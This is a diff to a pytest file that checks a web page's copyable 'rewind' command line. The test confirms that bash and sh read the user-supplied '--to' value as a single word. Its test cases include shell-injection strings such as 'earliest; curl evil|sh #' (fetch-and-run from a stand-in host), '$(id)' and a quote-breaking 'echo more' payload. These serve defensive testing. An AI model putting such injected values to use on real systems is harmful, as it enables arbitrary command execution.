@@ -79,18 +79,23 @@ def test_a_dead_letter_is_shown_as_what_it_is_and_where_it_came_from(tmp_path: P
         ("2026-11-25 02:00", "--to '2026-11-25 02:00'"),
         ("earliest; curl evil|sh #", "--to 'earliest; curl evil|sh #'"),
         ("$(id) `id` 'x' \\", """--to '$(id) `id` '"'"'x'"'"' \\'"""),
-        ("it's\\\u202e\x03x", r"--to $'it\'s\\\u202e\u0003x'"),
+        ("it's\\\u202e\x03x", r"--to $'it\u0027s\u005c\u202e\u0003x'"),
+        ("x'; echo more #\u200b", r"--to $'x\u0027; echo more #\u200b'"),
     ],
 )
 @pytest.mark.suite(cases=2)
 def test_what_is_in_a_line_for_the_shell_is_one_word(played: Played, visit: Visit, to: str, line: str) -> None:
-    """Whatever the address says, as somebody copies it."""
+    """Whatever the address says, as somebody copies it. A shell that doesn't know $'…' may read another word."""
     page = visit(f"{played.url}#/jobs/delays/changes/new?{urlencode({'kind': 'rewind', 'to': to})}")
     shown = page.get_by_label("the same on the command line")
     expect(shown).to_have_value(f"anabranch rewind delays {line}")
     command = f"printf '%s\\n' {shown.input_value()}"
-    read = subprocess.run(["bash", "-c", command], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
-    assert read.stdout.decode() == "\n".join(["anabranch", "rewind", "delays", "--to", to, ""])
+    words = ["anabranch", "rewind", "delays", "--to"]
+    for shell in ("bash", "sh"):
+        read = subprocess.run([shell, "-c", command], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
+        *others, last = read.stdout.decode().splitlines()
+        assert (others, read.stderr) == (words, b"")
+        assert last == to or (shell == "sh" and "$'" in line)
 
 
 def test_events_are_those_of_the_command_line(played: Played, visit: Visit) -> None:
